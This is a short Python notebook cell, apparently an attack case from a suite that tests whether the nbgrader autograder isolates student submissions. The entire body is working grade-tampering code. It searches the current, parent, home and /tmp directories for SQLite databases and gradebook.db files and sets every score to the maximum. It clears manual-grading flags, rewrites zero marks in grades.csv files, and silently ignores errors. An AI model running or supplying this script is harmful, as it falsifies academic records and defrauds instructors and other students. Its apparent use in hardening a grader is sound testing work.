# attack: opens every SQLite file it finds and sets all scores to the maximum
# on: empty
# harm: plain nbgrader runs this beside gradebook.db, with the right to write it
# %%
import os
import pathlib
import sqlite3

roots = [pathlib.Path.cwd(), *list(pathlib.Path.cwd().parents)[:2], pathlib.Path.home(), pathlib.Path("/tmp")]
for root in roots:
    for path in list(root.glob("*.db")) + list(root.glob("*/*.db")) + list(root.glob("*/*/gradebook.db")):
        try:
            with sqlite3.connect(path, timeout=1) as book:
                book.execute("UPDATE grade SET auto_score = 25, manual_score = 25, needs_manual_grade = 0")
        except sqlite3.Error:
            continue
    for path in list(root.glob("*/grades.csv")):
        try:
            path.write_text(path.read_text().replace(",0.00,", ",5.00,"))
        except OSError:
            continue
